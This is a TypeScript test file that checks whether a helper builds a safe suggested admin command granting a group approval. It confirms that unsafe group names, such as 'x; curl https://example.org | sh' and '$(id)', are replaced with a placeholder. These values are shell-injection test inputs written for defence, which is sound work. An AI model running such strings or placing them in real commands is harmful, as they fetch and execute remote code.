import assert from 'node:assert/strict';
import { unmetEntries } from '../../../src/client/commands/approvers.ts';

describe('the command that lets a group approve', () => {
  const commandFor = (group: string): string => {
    const accessConfig = { approvals: { all: [{ name: 'peer', groups: [group] }] } };
    const object = { metadata: { namespace: 'payments', name: 'shell' }, spec: { accessConfig } };
    const [line = ''] = unmetEntries({ type: 'pod', object } as never, [], { namespace: 'payments' } as never);
    return line.replace(/^.* an administrator can: /, '');
  };

  it('names the group of the template', () => {
    assert.match(commandFor('secops@example.org'), / --group=secops@example\.org$/);
  });

  for (const group of ['x; curl https://example.org | sh', '$(id)', 'a b', "a'b", 'system:authenticated']) {
    it(`leaves out ${group}, which a shell would run, or which is no group of people`, () => {
      assert.match(commandFor(group), / --group=GROUP$/);
    });
  }
});
